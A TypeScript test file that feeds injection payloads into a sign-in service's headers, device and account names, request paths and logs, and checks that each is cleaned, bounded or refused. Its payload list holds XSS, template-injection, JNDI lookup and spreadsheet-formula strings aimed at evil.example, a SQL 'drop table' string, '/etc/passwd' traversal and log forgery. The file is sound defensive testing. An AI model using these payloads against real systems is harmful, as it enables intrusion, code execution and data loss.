import assert from 'node:assert/strict';
import { test } from 'node:test';
import { ownerEmail, ownerPassword } from '../running-service.ts';
import { rawRequest, sendRaw } from './raw-request.ts';
import { assertProblem, assertRefused, inTime, startTarget, withoutEffect } from './target.ts';

const target = await startTarget();
const { port, owner, service } = target;

/** Every text that someone, somewhere, would take for more than text. */
const payloads: readonly (readonly [string, string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['an event handler', '"><img src=x onerror=alert(1)>'],
  ['SVG', '<svg/onload=alert(1)>'],
  ['a template', '{{constructor.constructor("alert(1)")()}}'],
  ['an expression', '\u0024{7*7}#{7*7}<%=7*7%>'],
  ['a comment', '<!--x--><![CDATA[x]]>'],
  ['a right-to-left override', 'Chrome\u202Eexe.slx\u2066'],
  ['zero-width characters', 'Chr\u200Bo\u200Dm\u2060e\uFEFF'],
  ['emoji', 'Chrome \u{1F525}\u{1F469}\u200D\u{1F4BB}'],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a formula with at', '@SUM(1+1)*cmd|/c calc'],
  ['mail header lines', 'x%0d%0aBcc: all@evil.example'],
  ['phishing', 'Your account is locked, call http://evil.example'],
  ['SQL', "'; drop table sessions; --"],
  ['a look-up', '\u0024{jndi:ldap://evil.example/x}'],
  ['a path', '../../../../etc/passwd'],
  ['line separators', 'a\u2028b\u2029c\u0085d'],
  ['combining marks', `Z${'\u0301'.repeat(300)}`],
  ['a private character', '\uE000\u{F0000}'],
];

const invisible = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}]/u;
const plainName = /^[A-Za-z0-9 ._+()/&'-]{1,80}$/;

interface Shown {
  readonly userAgent: string | null;
  readonly device: Record<'name' | 'vendor' | 'model', string | null> &
    Record<'browser' | 'os', { readonly name: string; readonly version: string | null } | null>;
}

/** Signs in with these headers and gives the session as its owner sees it in the list. */
async function shownAfterSignIn(headers: readonly (string | Uint8Array)[]): Promise<Shown> {
  const body = JSON.stringify({ email: ownerEmail, password: ownerPassword, tokenDelivery: 'body' });
  const all = ['Content-Type: application/json', ...headers];
  const answer = await inTime(sendRaw(port, rawRequest(port, 'POST /api/sign-in', all, body)));
  assert.equal(answer.status, 200, answer.text.slice(0, 300));
  const { id } = answer.body['session'] as { readonly id: string };
  const listed = (await owner.send('GET', '/api/sessions')).body['sessions'] as readonly (Shown & {
    readonly id: string;
  })[];
  const shown = listed.find((each) => each.id === id);
  assert.ok(shown !== undefined);
  return shown;
}

function assertPlain({ userAgent, device }: Shown): void {
  assert.ok((userAgent ?? '').length <= 512);
  assert.doesNotMatch(userAgent ?? '', invisible);
  const names = [device.name, device.vendor, device.model, device.browser?.name, device.os?.name];
  const versions = [device.browser?.version, device.os?.version];
  for (const text of [...names, ...versions]) if (text != null) assert.match(text, plainName);
}

const utf8 = (name: string, value: string): Uint8Array => Buffer.from(`${name}: ${value}`, 'utf8');

for (const [what, payload] of payloads) {
  test(`X-20: a user agent with ${what} is shown as a plain name, its text bounded and clean`, async () => {
    const dressed = `Mozilla/5.0 (Windows NT 10.0; ${payload}) AppleWebKit/537.36 ${payload}/1.0 Chrome/${payload}`;
    assertPlain(await shownAfterSignIn([utf8('User-Agent', dressed)]));
    assertPlain(await shownAfterSignIn([utf8('User-Agent', `${payload}/${payload} (${payload})`)]));
  });

  test(`X-21: client hints and other headers with ${what} are shown as a plain name`, async () => {
    const shown = await shownAfterSignIn([
      utf8('User-Agent', 'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 Chrome/120.0.0.0 Mobile'),
      utf8(
        'Sec-CH-UA',
        `"${payload.replaceAll('"', '')}";v="1", "Chromium";v="${payload.replaceAll('"', '')}"`,
      ),
      utf8('Sec-CH-UA-Full-Version-List', `"Chromium";v="${payload}"`),
      utf8('Sec-CH-UA-Platform', `"${payload}"`),
      utf8('Sec-CH-UA-Platform-Version', payload),
      utf8('Sec-CH-UA-Model', `"${payload}"`),
      utf8('Sec-CH-UA-Form-Factors', payload),
      utf8('X-Requested-With', payload),
      utf8('Accept-Language', payload),
      utf8('Referer', payload),
    ]);
    assertPlain(shown);
  });

  test(`X-21: a device name with ${what} comes back as clean text or is refused`, async () => {
    const listed = (await owner.send('GET', '/api/session')).body['session'] as {
      readonly device: { readonly id: string };
    };
    const answer = await owner.send('PATCH', `/api/devices/${listed.device.id}`, { label: payload });
    if (answer.status === 400) return assertProblem(answer, 'invalid_request', payload);
    const label = String(answer.body['label']);
    assert.doesNotMatch(label.replaceAll('\u200D', ''), invisible);
    assert.ok([...new Intl.Segmenter('en').segment(label)].length <= 60);
    assert.match(answer.headers.get('content-type') ?? '', /^application\/json/);
  });

  test(`X-21: an account name with ${what} comes back as clean text or is refused`, async () => {
    const email = `${what.replaceAll(' ', '-')}@lindqvist.example`;
    const body = { email, password: ownerPassword, name: payload };
    const answer = await service.client().send('POST', '/api/sign-up', body);
    if (answer.status === 400) return assertProblem(answer, 'invalid_request', payload);
    const { name } = answer.body['user'] as { readonly name: string };
    assert.equal(answer.status, 201);
    assert.doesNotMatch(name.replaceAll('\u200D', ''), invisible);
  });
}

for (const byte of [0x00, 0x0a, 0x0d, 0x1b, 0x07]) {
  test(`X-20: a user agent with the byte 0x${byte.toString(16).padStart(2, '0')} never reaches the list`, () =>
    withoutEffect(target, async () => {
      const header = Buffer.concat([
        Buffer.from('User-Agent: a'),
        Buffer.from([byte]),
        Buffer.from('[31m red'),
      ]);
      assertRefused(await inTime(sendRaw(port, rawRequest(port, 'POST /api/sign-in', [header], '{}'))));
    }));
}

test('X-20: a user agent of 10 KB is cut, one of 64 KB refused', async () => {
  const shown = await shownAfterSignIn([`User-Agent: Mozilla/5.0 ${'Chrome/1 '.repeat(1_000)}`]);
  assertPlain(shown);
  await withoutEffect(target, async () => {
    const long = rawRequest(port, 'POST /api/sign-in', [`User-Agent: ${'x'.repeat(64 * 1024)}`], '{}');
    const answer = await inTime(sendRaw(port, long));
    assert.ok(answer.status === 431 || answer.status === 0);
  });
});

test('X-21: no name is longer than it may be, or empty', () =>
  withoutEffect(target, async () => {
    const stranger = service.client();
    for (const name of [
      '',
      ' ',
      '\u200B',
      '\u2800\u3164',
      '\u0000',
      'x'.repeat(101),
      '\u202E',
      null,
      1,
      ['x'],
      {},
    ]) {
      const body = { email: 'nobody@lindqvist.example', password: ownerPassword, name };
      assertProblem(await stranger.send('POST', '/api/sign-up', body), 'invalid_request');
    }
    const { device } = (await owner.send('GET', '/api/session')).body['session'] as {
      readonly device: { readonly id: string };
    };
    for (const label of ['', ' ', '\u200B', '\u0000', 'x'.repeat(61), '\u202E', 1, ['x'], {}]) {
      assertProblem(await owner.send('PATCH', `/api/devices/${device.id}`, { label }), 'invalid_request');
    }
  }));

test('X-22: an export for spreadsheets does not exist, and is not made by asking for one', async () => {
  for (const path of ['/api/history', '/api/sessions']) {
    const answer = await owner.send('GET', path, undefined, { accept: 'text/csv' });
    assert.match(answer.headers.get('content-type') ?? '', /^application\/json/);
    assert.equal(answer.headers.get('content-disposition'), null);
  }
});

test('X-23: what a request says cannot forge, colour or flood a line of the log', async () => {
  const started = service.logLines.length;
  for (const [, payload] of [
    ...payloads,
    ['fake JSON', '"}\r\n{"level":"error","code":"forged"}'],
  ] as const) {
    const path = `/api/${encodeURIComponent(payload)}`;
    await inTime(
      sendRaw(port, rawRequest(port, `GET ${path}`, [utf8('User-Agent', payload.replace(/[\r\n]/g, ''))])),
    );
    await owner.send('POST', '/api/step-up', { [payload]: payload });
    await owner.send('POST', '/api/step-up', { method: payload, code: payload });
  }
  await inTime(sendRaw(port, rawRequest(port, `GET /api/${'x'.repeat(7_000)}`)));
  const lines = service.logLines.slice(started);
  assert.ok(lines.length > payloads.length);
  for (const line of lines) {
    assert.doesNotMatch(line, /[\p{Cc}\p{Zl}\p{Zp}\u202e]/u);
    assert.ok(line.length < 1_000, line);
    const facts = JSON.parse(line) as { readonly code: string };
    assert.notEqual(facts.code, 'forged');
  }
});
